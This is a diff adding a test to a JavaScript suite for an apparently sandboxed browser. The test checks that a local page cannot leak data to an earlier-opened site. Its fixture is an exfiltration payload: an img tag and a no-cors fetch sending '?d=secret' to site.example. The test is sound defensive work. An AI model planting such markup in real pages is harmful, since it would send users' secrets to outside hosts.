@@ -167,6 +167,29 @@ describe("the browser of a run", function () {
     );
   });
 
+  it("lets no page of this machine send anything to a page of the web that was opened before", async () => {
+    const site = await server((_asked, answer) => page(answer, "site"));
+    const away = `http://site.example:${site.port}/?d=secret`;
+    const { port } = await server((_asked, answer) =>
+      page(answer, `<img src="${away}"><script>fetch("${away}", {mode: "no-cors"}).catch(() => 0)</script>`),
+    );
+    const browser = start({
+      checkAddress: createAddressCheck(
+        () => [`site.example:${site.port}`],
+        async () => ["127.0.0.1"],
+      ),
+    });
+    await browser.open(new URL(`http://site.example:${site.port}/`), signal);
+    const { notes } = await browser.open(local(port), signal);
+    assert.deepEqual(
+      {
+        sent: site.asked.filter((line) => line.includes("secret")),
+        notes: notes.map((note) => withoutPorts(note).split(":PORT")[0]),
+      },
+      { sent: [], notes: ["Requests to site.example"] },
+    );
+  });
+
   it("dismisses dialogs, refuses downloads, and gives a file only to the click that names it", async () => {
     const { port } = await server((_asked, answer, { pathname }) => {
       if (pathname === "/") {
